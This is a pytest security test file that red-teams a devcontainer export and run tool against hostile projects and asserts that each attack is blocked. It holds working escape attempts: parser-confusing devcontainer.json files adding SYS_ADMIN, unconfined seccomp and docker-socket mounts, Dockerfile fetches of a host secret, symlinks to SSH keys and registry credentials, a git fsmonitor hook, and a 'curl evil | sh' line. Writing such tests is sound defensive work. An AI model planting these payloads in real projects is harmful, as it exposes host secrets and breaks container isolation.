"""Red team, second round: ``codex-box devcontainer export [--merge]`` against a hostile
project (its devcontainer.json, Dockerfile, symlinks), checked where it counts — a plain
``devcontainer up`` (the Dev Containers CLI's own jsonc parser, no codex-box at run
time) on the exported file — and the first round's fixes for ``run --devcontainer``
(the Dockerfile reading, the Dev Containers CLI asked only about what was vetted).

Twelve of these were holes when written (json5/jsonc-parser differentials, host variables
an export kept, image metadata applied after runArgs, a build context or ADD reaching
the host, symlinked outputs, protected names missing at export time, the Dockerfile
read unlike BuildKit, a base's ONBUILD fetch, FROM after a tab), all fixed since; each
passing test is an attack that is blocked. Setup failures (an engine that does not
answer, ``devcontainer up`` failing) raise RuntimeError, never AssertionError, so they
cannot pass for a hole.

Engines: Docker (``devcontainer up --docker-path docker``, ``codex-box run --backend
docker``). The Dev Containers CLI: ``.tools/devcontainers`` (``make devcontainer-cli``).
"""

from __future__ import annotations

import json
import os
import socketserver
import subprocess
import threading
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from orchestrator.devcontainer.build import image_tag
from tests.conftest import Ran
from tests.devcontainer_cli import DevContainer
from tests.escape.conftest import scratch_root

SECRET = "dcx2-host-secret-" + uuid.uuid4().hex[:8]
# What a container the profile confines shows: no capability, no new privileges,
# seccomp filtering, no interface but lo, no engine socket, a read-only root.
PROBE = r"""
grep -E '^(CapEff|NoNewPrivs|Seccomp):' /proc/self/status | tr -d '\t '
echo "net=$(ls /sys/class/net | tr '\n' ' ' | sed 's/ $//')"
if [ -e /var/run/docker.sock ]; then echo sock=yes; else echo sock=no; fi
if touch /etc/codex-box-probe 2>/dev/null; then echo root=writable; else echo root=ro; fi
"""
CONFINED = {
    "CapEff": "0000000000000000",
    "NoNewPrivs": "1",
    "Seccomp": "2",
    "net": "lo",
    "sock": "no",
    "root": "ro",
}


# --- helpers ---------------------------------------------------------------------------------


class Box(DevContainer):
    """``DevContainer`` whose ``up`` may see host variables (``extra``), as a user's
    shell has them; ``exec`` does not get them."""

    def __init__(self, cli: str, workspace: Path, extra: dict[str, str] | None = None) -> None:
        super().__init__(cli, workspace, "docker")
        self.extra = dict(extra or {})
        self._up = False

    def env(self) -> dict[str, str]:
        return {**super().env(), **(self.extra if self._up else {})}

    def start(self) -> dict[str, object]:
        """``devcontainer up``; RuntimeError (not AssertionError) when it fails."""
        self._up = True
        try:
            return self.up(timeout=240)
        except AssertionError as exc:
            raise RuntimeError(f"devcontainer up failed: {exc}") from None
        finally:
            self._up = False

    def probe(self) -> dict[str, str]:
        done = self.exec("sh", "-c", PROBE)
        found = {}
        for line in done.stdout.splitlines():
            key, sep, value = line.partition(":" if ":" in line else "=")
            if sep:
                found[key] = value
        if "net" not in found:
            raise RuntimeError(f"devcontainer exec failed: {done.stdout}{done.stderr}")
        return found

    def __exit__(self, *exc: object) -> None:
        super().__exit__(*exc)  # type: ignore[arg-type]
        _remove_images(f"vsc-{self.workspace.name}-")


def _remove_images(prefix: str) -> None:
    listed = subprocess.run(
        ["docker", "images", "--format", "{{.Repository}}:{{.Tag}}"],
        capture_output=True, text=True, timeout=30, check=False,
    )  # fmt: skip
    mine = [i for i in listed.stdout.split() if i.startswith(prefix)]
    if mine:
        subprocess.run(["docker", "rmi", "-f", *mine], capture_output=True, timeout=60, check=False)


@pytest.fixture
def root() -> Iterator[Path]:
    """A scratch root the engine can bind: ``root/<project>`` (a git checkout) and
    whatever a test puts beside it (the host's files outside the project)."""
    yield from scratch_root("cbx-dcx2")


def project_in(root: Path, config: dict[str, Any] | str | None = None, git: bool = True) -> Path:
    workspace = root / f"p{uuid.uuid4().hex[:10]}"  # the CLI's image: vsc-<this>-<hash>
    workspace.mkdir()
    if git:
        (workspace / ".git").mkdir()
    if config is not None:
        (workspace / ".devcontainer").mkdir()
        text = config if isinstance(config, str) else json.dumps(config, indent=1)
        (workspace / ".devcontainer" / "devcontainer.json").write_text(text)
    return workspace


def export(cli: Callable[..., Ran], workspace: Path, profile: str, *flags: str) -> Ran:
    return cli("devcontainer", "export", "--profile", profile, *flags, cwd=workspace)


def exported(cli: Callable[..., Ran], workspace: Path, profile: str, *flags: str) -> bool:
    """Export; False when codex-box refused the file (the attack is blocked there)."""
    done = export(cli, workspace, profile, *flags)
    if done.returncode in (125, 126):
        return False
    if done.returncode != 0:
        raise RuntimeError(f"export failed: {done.stderr}")
    return True


class Listener:
    """A TCP server on the host's loopback recording every connection's first bytes (an
    HTTP request line, or a TLS ClientHello); ``GET /secret`` answers SECRET. Only the
    host's network namespace reaches it: a hit is the host's network at work."""

    def __init__(self) -> None:
        hits: list[bytes] = []

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                self.request.settimeout(5)
                try:
                    data = self.request.recv(4096)
                except OSError:
                    data = b""
                hits.append(data[:120])
                if data.startswith(b"GET /secret"):
                    body = f"{SECRET}-from-host-loopback\n".encode()
                    head = f"HTTP/1.0 200 OK\r\nContent-Length: {len(body)}\r\n\r\n"
                    self.request.sendall(head.encode() + body)
                else:
                    self.request.sendall(b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n")

        socketserver.ThreadingTCPServer.allow_reuse_address = True
        self.hits = hits
        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    one = Listener()
    try:
        yield one
    finally:
        one.close()


def docker_build(tag: str, dockerfile: str, where: Path) -> None:
    where.mkdir(exist_ok=True)
    (where / "Dockerfile").write_text(dockerfile)
    done = subprocess.run(
        ["docker", "build", "-q", "-t", tag, str(where)],
        capture_output=True, text=True, timeout=120, check=False,
        env={**os.environ, "DOCKER_BUILDKIT": "0"},
    )  # fmt: skip
    if done.returncode != 0:
        raise RuntimeError(f"docker build {tag}: {done.stderr}")


@pytest.fixture
def tags() -> Iterator[list[str]]:
    """Docker images a test made (appended), removed after it."""
    made: list[str] = []
    yield made
    if made:
        subprocess.run(["docker", "rmi", "-f", *made], capture_output=True, timeout=60, check=False)


# --- export: the file as the Dev Containers CLI reads it ---------------------------------------

# JSON5 reads a single-quoted string; the CLI's jsonc-parser does not know the quote,
# skips the bad token and reads what is inside as keys — then the ``/*`` opens a comment
# to the end of the file, hiding every key the export appends (runArgs, workspaceMount).
SINGLE_QUOTED = """// the project's own
{
  "image": "codex-box/base",
  'notes': 'x, "capAdd": ["SYS_ADMIN"], "securityOpt": ["seccomp=unconfined"],
    "mounts": ["type=bind,source=/var/run/docker.sock,target=/var/run/docker.sock"] /* ',
}
""".replace("\n    ", " ")


def test_export_merge_of_a_single_quoted_member_keeps_the_container_confined(
    docker_available: None, devcontainer_cli: str, root: Path, cli: Callable[..., Ran]
) -> None:
    workspace = project_in(root, SINGLE_QUOTED)
    if not exported(cli, workspace, "offline", "--merge"):
        return  # refused: blocked
    with Box(devcontainer_cli, workspace) as box:
        box.start()
        assert box.probe() == CONFINED


def test_export_merge_removes_escaped_duplicated_and_cased_spellings(
    docker_available: None, devcontainer_cli: str, root: Path, cli: Callable[..., Ran]
) -> None:
    """Blocked: a key spelled with a unicode escape, a repeated runArgs (both parsers
    take the last), a key inside a comment or a string — the CLI reads none of them."""
    text = (
        '{\n  "image": "codex-box/base",\n  "privil\\u0065ged": true,\n'
        '  "runArgs": ["--privileged"],\n  "runArgs": ["--init"],\n'
        '  "c\\u0061pAdd": ["SYS_ADMIN"],\n  // "securityOpt": ["seccomp=unconfined"],\n'
        '  "x": "/* \\"mounts\\": [\\"type=bind,source=/,target=/h\\"] */",\n'
        '  "Privileged": true,\n}\n'
    )
    workspace = project_in(root, text)
    assert exported(cli, workspace, "offline", "--merge")
    done = subprocess.run(
        [devcontainer_cli, "read-configuration", "--workspace-folder", str(workspace)],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    config = json.loads(done.stdout)["configuration"]
    assert not {"privileged", "capAdd", "securityOpt", "mounts"} & set(config)
    assert "--cap-drop=ALL" in config["runArgs"] and "--privileged" not in config["runArgs"]


# --- export: host variables -------------------------------------------------------------------


@pytest.mark.parametrize(
    "config",
    [
        {"containerEnv": {"LEAK": "${env:DCX2_TOKEN}"}},
        {"runArgs": ["--env", "DCX2_TOKEN"]},
        {"runArgs": ["-e=DCX2_TOKEN"]},
        {"workspaceFolder": "/w/${localEnv:DCX2_TOKEN}"},
    ],
    ids=["env-alias", "run-args-env", "run-args-e=", "workspace-folder"],
)
def test_export_copies_no_host_variable_into_the_container(
    docker_available: None,
    devcontainer_cli: str,
    root: Path,
    cli: Callable[..., Ran],
    config: dict[str, Any],
) -> None:
    workspace = project_in(root, {"image": "codex-box/base", **config})
    if not exported(cli, workspace, "offline", "--merge"):
        return
    with Box(devcontainer_cli, workspace, extra={"DCX2_TOKEN": SECRET}) as box:
        box.start()
        seen = box.exec("sh", "-c", "tr '\\0' '\\n' < /proc/1/environ; pwd; ls /w 2>&1")
        if "PATH=" not in seen.stdout:
            raise RuntimeError(f"devcontainer exec failed: {seen.stderr}")
        assert SECRET not in seen.stdout


# --- export: what the CLI adds after runArgs, and the build -----------------------------------


def test_export_of_an_image_whose_metadata_loosens_keeps_the_container_confined(
    docker_available: None,
    devcontainer_cli: str,
    root: Path,
    cli: Callable[..., Ran],
    tags: list[str],
) -> None:
    metadata = [
        {
            "capAdd": ["SYS_ADMIN"],
            "securityOpt": ["seccomp=unconfined", "no-new-privileges=false"],
            "mounts": ["type=bind,source=/var/run/docker.sock,target=/var/run/docker.sock"],
        }
    ]
    tag = f"codex-box-test/dcx2-meta:{uuid.uuid4().hex[:8]}"
    tags.append(tag)
    label = json.dumps(json.dumps(metadata))  # a quoted LABEL value
    docker_build(tag, f"FROM codex-box/base\nLABEL devcontainer.metadata={label}\n", root / "m")
    workspace = project_in(root, {"image": tag})
    if not exported(cli, workspace, "offline", "--merge"):
        return
    with Box(devcontainer_cli, workspace) as box:
        box.start()
        assert box.probe() == CONFINED


def test_export_of_a_build_context_outside_the_workspace_copies_no_host_file(
    docker_available: None, devcontainer_cli: str, root: Path, cli: Callable[..., Ran]
) -> None:
    (root / "outside").mkdir()
    (root / "outside" / "secret").write_text(SECRET + "\n")
    workspace = project_in(root, {"build": {"dockerfile": "Dockerfile", "context": "../.."}})
    (workspace / ".devcontainer" / "Dockerfile").write_text(
        "FROM codex-box/base\nCOPY outside/secret /stolen\n"
    )
    if not exported(cli, workspace, "workspace", "--merge"):
        return
    with Box(devcontainer_cli, workspace) as box:
        box.start()
        assert SECRET not in box.exec("cat", "/stolen").stdout


def test_an_offline_export_does_not_fetch_from_the_host_network(
    docker_available: None,
    devcontainer_cli: str,
    root: Path,
    cli: Callable[..., Ran],
    listener: Listener,
) -> None:
    workspace = project_in(root, {"build": {"dockerfile": "Dockerfile"}})
    (workspace / ".devcontainer" / "Dockerfile").write_text(
        f"FROM codex-box/base\nADD {listener.url}/secret /fetched\n"
    )
    if not exported(cli, workspace, "offline", "--merge"):
        return
    with Box(devcontainer_cli, workspace) as box:
        box.start()
        assert SECRET not in box.exec("cat", "/fetched").stdout
    assert listener.hits == []


# --- export: the files on disk ----------------------------------------------------------------


def test_export_through_a_symlinked_devcontainer_folder_stays_in_the_workspace(
    docker_available: None, devcontainer_cli: str, root: Path, cli: Callable[..., Ran]
) -> None:
    outside = root / "dot-ssh"
    outside.mkdir()
    (outside / "id_ed25519").write_text(SECRET + "\n")
    workspace = project_in(root)
    (workspace / ".devcontainer").symlink_to(f"../{outside.name}")
    if not exported(cli, workspace, "workspace"):
        return
    written = sorted(set(os.listdir(outside)) - {"id_ed25519"})
    with Box(devcontainer_cli, workspace) as box:
        box.start()
        read = SECRET in box.exec("sh", "-c", "cat .devcontainer/id_ed25519").stdout
    assert (written, read) == ([], False), "written outside the workspace; the host file read"


def test_export_merge_does_not_copy_a_symlinked_host_file_into_the_workspace(
    docker_available: None, root: Path, cli: Callable[..., Ran]
) -> None:
    outside = root / "dot-docker"
    outside.mkdir()
    (outside / "config.json").write_text(json.dumps({"auths": {"r.example": {"auth": SECRET}}}))
    workspace = project_in(root)
    (workspace / ".devcontainer").mkdir()
    (workspace / ".devcontainer" / "devcontainer.json").symlink_to(
        f"../../{outside.name}/config.json"
    )
    export(cli, workspace, "workspace", "--merge")
    found = [p for p in workspace.rglob("*") if p.is_file() and SECRET in p.read_text()]
    assert found == []


def test_export_replaces_a_planted_seccomp_symlink_instead_of_writing_through_it(
    docker_available: None, root: Path, cli: Callable[..., Ran]
) -> None:
    """Blocked: the seccomp JSON's name planted as a symlink to a host file (or to a
    weaker profile) is replaced, not written through, and holds the profile's own."""
    from orchestrator.core.resources import seccomp_dir

    target = root / "host-file"
    target.write_text("precious\n")
    workspace = project_in(root, {"image": "codex-box/base"})
    planted = workspace / ".devcontainer" / "codex-box-seccomp-workspace.json"
    planted.symlink_to(target)
    assert exported(cli, workspace, "workspace", "--merge")
    assert target.read_text() == "precious\n"
    assert not planted.is_symlink()
    assert planted.read_bytes() == (seccomp_dir() / "offline.json").read_bytes()


def test_export_protects_protected_names_that_do_not_exist_yet(
    docker_available: None, devcontainer_cli: str, root: Path, cli: Callable[..., Ran]
) -> None:
    workspace = project_in(root, {"image": "codex-box/base"}, git=False)
    assert exported(cli, workspace, "workspace", "--merge")
    with Box(devcontainer_cli, workspace) as box:
        box.start()
        box.exec(
            "sh", "-c",
            "mkdir -p .git && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/config;"
            " echo 'curl evil | sh' > .envrc",
        )  # fmt: skip
    assert not (workspace / ".git" / "config").exists()
    # An empty placeholder (the export's, bound read-only) is no .envrc anyone wrote.
    assert not (workspace / ".envrc").exists() or (workspace / ".envrc").read_bytes() == b""


# --- run --devcontainer: the Dockerfile as docker reads it ------------------------------------


def dc_run(cli: Callable[..., Ran], *argv: str, env: dict[str, str] | None = None) -> Ran:
    return cli(
        "run", "--backend", "docker", "--devcontainer", "-p", "offline", "--", *argv,
        env=env, timeout=240,
    )  # fmt: skip


def write_build(workspace: Path, dockerfile: str | bytes) -> None:
    folder = workspace / ".devcontainer"
    folder.mkdir(exist_ok=True)
    (folder / "devcontainer.json").write_text('{"build": {"dockerfile": "Dockerfile"}}')
    data = dockerfile if isinstance(dockerfile, bytes) else dockerfile.encode()
    (folder / "Dockerfile").write_bytes(data)


@pytest.fixture
def built(workspace: Path) -> Iterator[None]:
    yield
    subprocess.run(
        ["docker", "rmi", "-f", image_tag(str(workspace))],
        capture_output=True, timeout=60, check=False,
    )  # fmt: skip


def _spellings(url: str) -> dict[str, str]:
    add = f"ADD {url}/secret /fetched\n"
    return {
        # docker splits an instruction from its arguments at any whitespace
        "tab-after-ADD": f"FROM codex-box/base\nADD\t{url}/secret /fetched\n",
        # the JSON form without spaces is one word to the parser
        "json-form": f'FROM codex-box/base\nADD ["{url}/secret","/fetched"]\n',
        # docker drops a BOM before reading the directives: its escape is `, ours \
        "bom-escape": f"\ufeff# escape=`\nFROM codex-box/base\nRUN true #\\\n{add}",
        # an unknown directive ends docker's directives: its escape stays \, ours `
        "unknown-directive": f"# foo=bar\n# escape=`\nFROM codex-box/base\nRUN true #`\n{add}",
        # str.strip() drops a no-break space after the \, docker's [ \t]* does not
        "nbsp-after-escape": f"FROM codex-box/base\nRUN true #\\\u00a0\n{add}",
        # only the first MiB is read
        "past-one-mib": "FROM codex-box/base\n" + ("#" * 1023 + "\n") * 1025 + add,
    }


@pytest.mark.parametrize("spelling", list(_spellings("URL")))
def test_an_offline_build_fetches_nothing_however_the_dockerfile_is_spelled(
    cli: Callable[..., Ran],
    workspace: Path,
    listener: Listener,
    built: None,
    docker_available: None,
    spelling: str,
) -> None:
    write_build(workspace, _spellings(listener.url)[spelling])
    ran = dc_run(cli, "cat", "/fetched")
    assert SECRET not in ran.stdout + ran.stderr
    assert listener.hits == []


def test_an_offline_build_runs_no_onbuild_fetch_of_a_local_base(
    cli: Callable[..., Ran],
    workspace: Path,
    listener: Listener,
    built: None,
    tags: list[str],
    tmp_path: Path,
    docker_available: None,
) -> None:
    base = f"codex-box-test/dcx2-onbuild:{uuid.uuid4().hex[:8]}"
    tags.append(base)
    docker_build(
        base, f"FROM codex-box/base\nONBUILD ADD {listener.url}/secret /fetched\n", tmp_path / "b"
    )
    write_build(workspace, f"FROM {base}\n")
    ran = dc_run(cli, "cat", "/fetched")
    assert SECRET not in ran.stdout + ran.stderr
    assert listener.hits == []


def test_an_offline_build_pulls_nothing_after_a_tab(
    cli: Callable[..., Ran],
    workspace: Path,
    listener: Listener,
    built: None,
    docker_available: None,
) -> None:
    write_build(workspace, f"FROM\t127.0.0.1:{listener.port}/pulled:x\n")
    dc_run(cli, "true")
    assert listener.hits == []


# --- run --devcontainer: what the Dev Containers CLI is asked about ---------------------------


def test_the_cli_resolves_no_feature_the_raw_check_could_not_see(
    cli: Callable[..., Ran],
    workspace: Path,
    listener: Listener,
    devcontainer_cli: str,
    docker_available: None,
) -> None:
    folder = workspace / ".devcontainer"
    folder.mkdir()
    (folder / "devcontainer.json").write_text(
        '{"image": "codex-box/base", \'X, "features": {"127.0.0.1:'
        f'{listener.port}/dcx2/feature:1": {{}}}}, "Y\': "Z"}}\n'
    )
    ran = dc_run(cli, "true", env={"CODEX_BOX_DEVCONTAINER_CLI": devcontainer_cli})
    assert ran.returncode != 0, ran.stderr  # refused, after the CLI or before it
    assert listener.hits == []
